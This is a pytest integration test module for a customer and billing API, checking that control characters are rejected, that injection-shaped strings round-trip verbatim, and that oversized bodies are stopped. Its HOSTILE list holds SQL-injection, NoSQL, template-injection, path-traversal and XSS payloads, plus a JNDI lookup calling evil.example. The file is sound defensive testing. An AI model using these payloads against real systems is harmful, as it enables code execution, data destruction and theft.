"""Hostile input through the API: control characters are refused (422,
nothing written), everything else a caller may legitimately send (unicode,
strings shaped like SQL, NoSQL, template, JNDI, path traversal or HTML
injection) is stored and returned verbatim, and nothing is ever a 500.
Oversized bodies stop at the gateway (413) before any function runs.

tests/integration/test_customers.py already checks a tab and \\x01 in an
owner id (422) and unicode owner ids round-tripping; this module covers
owner types, explicit creates, every kind of control character, metadata,
names and usage strings.
"""

from __future__ import annotations

import json
from typing import Any
from urllib.parse import quote

import pytest

from devstack.stack import LocalStack
from tests.conftest import Client
from tests.integration.usage_helpers import billed, new_customer, put_usage, settle, uid, usage_body
from tests.integration.webhook_helpers import settled

CONTROL = ["\x00", "\x01", "\t", "\n", "\r", "\x1b[2J", "\x7f", "a\x08b"]
HOSTILE = [
    "' OR '1'='1' --",
    "'; DROP TABLE customers; --",
    '{"$gt": ""}',
    "$where: this.a == 1",
    "${jndi:ldap://evil.example/a}",
    "${7*7}",
    "{{7*7}}",
    "{% debug %}",
    "../../../etc/passwd",
    "..%2F..%2Fetc%2Fpasswd",
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "Zoë Ñandú 東京 🚀",
    "\u202egnp.exe",  # right-to-left override: a format character, not a control
    "\U0001d518\U0001d52b\U0001d526 \u01c5 \ufb03",  # look-alike letters, a titlecase digraph, a ligature
    "null",
    "\\u0000",  # the six characters, not a NUL
    "#guard#owner#",
]


def owner_path(owner_type: str, owner_id: str) -> str:
    return f"/v1/owners/{quote(owner_type, safe='')}/{quote(owner_id, safe='')}/customer"


def assert_422(resp: Any) -> dict[str, Any]:
    assert resp.status_code == 422, resp.text
    body = resp.json()
    assert body["error"]["type"] == "validation_error"
    return dict(body)


def owners(api: Client, owner_type: str, owner_id: str) -> list[dict[str, Any]]:
    resp = api.get("/v1/customers", params={"owner_type": owner_type, "owner_id": owner_id})
    assert resp.status_code in (200, 422), resp.text
    return list(resp.json()["data"]) if resp.status_code == 200 else []


# -- control characters: 422, nothing written -------------------------------------------------


@pytest.mark.parametrize("char", CONTROL)
@pytest.mark.parametrize("field", ["owner_type", "owner_id"])
def test_an_owner_with_a_control_character_is_422_on_both_create_paths(api: Client, char: str, field: str
                                                                       ) -> None:
    owner = {"owner_type": "Team", "owner_id": uid("ctl"), field: f"x{char}y"}
    assert_422(api.put(owner_path(owner["owner_type"], owner["owner_id"])))
    assert_422(api.post("/v1/customers", owner))
    assert owners(api, owner["owner_type"], owner["owner_id"]) == []


@pytest.mark.parametrize("char", CONTROL)
def test_a_metadata_key_with_a_control_character_is_422_naming_it(api: Client, char: str) -> None:
    owner_id = uid("meta")
    key = f"k{char}ey"
    body = assert_422(api.put(owner_path("Team", owner_id), {"metadata": {key: "v", "fine": "v"}}))
    assert set(body["error"]["details"]["metadata"]) == {key}
    assert owners(api, "Team", owner_id) == []


@pytest.mark.parametrize("char", ["\x00", "\x01", "\x1b[2J", "\x7f", "a\x08b"])
def test_a_metadata_value_with_a_control_character_is_422_on_create_and_patch(api: Client, char: str) -> None:
    owner_id = uid("meta")
    body = assert_422(api.put(owner_path("Team", owner_id), {"metadata": {"note": f"x{char}y"}}))
    assert set(body["error"]["details"]["metadata"]) == {"note"}
    assert owners(api, "Team", owner_id) == []
    made = new_customer(api)
    settled(api)  # Stripe's customer.created for it, applied: the row stands still from here
    customer = api.get(f"/v1/customers/{made['id']}").json()
    assert_422(api.patch(f"/v1/customers/{customer['id']}", {"metadata": {"note": f"x{char}y"}}))
    after = api.get(f"/v1/customers/{customer['id']}").json()
    assert (after["metadata"], after["lock_version"]) == (customer["metadata"], customer["lock_version"])


def test_tabs_and_line_breaks_in_a_metadata_value_are_text_and_kept(api: Client) -> None:
    value = "line one\r\nline two\n\tindented"
    created = api.put(owner_path("Team", uid("meta")), {"metadata": {"note": value}})
    assert created.status_code == 201, created.text
    assert api.get(f"/v1/customers/{created.json()['id']}").json()["metadata"] == {"note": value}


# -- hostile but valid: verbatim and lossless ---------------------------------------------------


@pytest.mark.parametrize("value", HOSTILE)
def test_injection_shaped_owners_are_stored_and_returned_verbatim(api: Client, value: str) -> None:
    owner_id = f"{value} {uid()}"
    created = api.put(owner_path(value, owner_id))
    assert created.status_code == 201, created.text
    customer = created.json()
    assert (customer["owner_type"], customer["owner_id"]) == (value, owner_id)
    assert [c["id"] for c in owners(api, value, owner_id)] == [customer["id"]]
    again = api.put(owner_path(value, owner_id))
    assert (again.status_code, again.json()["id"]) == (200, customer["id"])
    # A different owner whose parts concatenate to the same text is another owner.
    assert api.put(owner_path(value + " " + owner_id[:1], owner_id[1:])).json()["id"] != customer["id"]


def test_injection_shaped_names_and_metadata_are_stored_and_returned_verbatim(api: Client) -> None:
    customer = new_customer(api)
    metadata = {f"k{i}": value for i, value in enumerate(HOSTILE)}
    metadata.update({value[:40]: "as a key" for value in HOSTILE if "[" not in value and "]" not in value})
    for value in HOSTILE:
        resp = api.patch(f"/v1/customers/{customer['id']}", {"name": value})
        assert resp.status_code == 200, resp.text
        assert resp.json()["name"] == value
    # Stripe's limit is 50 keys: send them in two merges.
    items = list(metadata.items())
    for part in (items[:25], items[25:]):
        resp = api.patch(f"/v1/customers/{customer['id']}", {"metadata": dict(part)})
        assert resp.status_code == 200, resp.text
    stored = api.get(f"/v1/customers/{customer['id']}").json()
    assert {k: v for k, v in stored["metadata"].items() if k in metadata} == metadata
    raw = api.get(f"/v1/customers/{customer['id']}").content
    assert json.loads(raw)["name"] == HOSTILE[-1]


def test_injection_shaped_usage_strings_are_accepted_billed_and_returned_verbatim(stack: LocalStack,
                                                                                  api: Client) -> None:
    customer = new_customer(api)
    sent = {}
    for value in HOSTILE:
        identifier = uid("hostile")
        row = put_usage(api, identifier, usage_body(customer, 1, event_name=value, operation_id=value))
        assert (row["event_name"], row["operation_id"]) == (value, value)
        sent[identifier] = value
    rows = settle(stack, api, list(sent))
    assert {r["stripe_status"] for r in rows.values()} == {"reported"}
    for identifier, entry in billed(stack, list(sent)).items():
        assert entry["event_name"] == sent[identifier]  # Stripe got the exact meter name
    assert set(billed(stack, list(sent))) == set(sent)


@pytest.mark.parametrize("identifier", ["../../etc/passwd", "a%00b", "<script>", "' OR 1=1", "${x}", "é"])
def test_a_usage_identifier_outside_its_alphabet_is_422_not_a_path(api: Client, identifier: str) -> None:
    customer = new_customer(api)
    resp = api.put(f"/v1/usage/{quote(identifier, safe='')}", usage_body(customer))
    assert resp.status_code in (404, 422), resp.text  # a slash may not even match the route
    assert resp.json()["error"]["type"] in ("validation_error", "not_found")


# -- oversized ----------------------------------------------------------------------------------


@pytest.mark.parametrize(("function", "method", "path"), [
    ("ApiFunction", "PUT", "/v1/owners/Team/oversized/customer"),
    ("WebhookFunction", "POST", "/v1/webhooks/stripe"),
])
def test_a_body_over_10_mb_is_413_at_the_gateway_and_reaches_no_function(stack: LocalStack, api: Client,
                                                                         function: str, method: str,
                                                                         path: str) -> None:
    before = stack.runtimes[function].invocations
    body = b'{"name": "' + b"x" * (10 * 1024 * 1024) + b'"}'
    resp = api.session.request(method, api.base_url + path, data=body, timeout=60,
                               headers={"Content-Type": "application/json", "Stripe-Signature": "t=1,v1=00"})
    assert resp.status_code == 413, resp.text[:200]
    assert len(resp.content) < 1024
    assert stack.runtimes[function].invocations == before


def test_a_huge_field_inside_the_gateway_limit_is_422_and_not_echoed(api: Client) -> None:
    owner_id = uid("big")
    resp = api.put(owner_path("Team", owner_id), {"name": "N" * 2_000_000, "metadata": {"k": "v" * 100_000}})
    assert_422(resp)
    assert len(resp.content) < 4096  # names the fields, never repeats the values
    assert owners(api, "Team", owner_id) == []
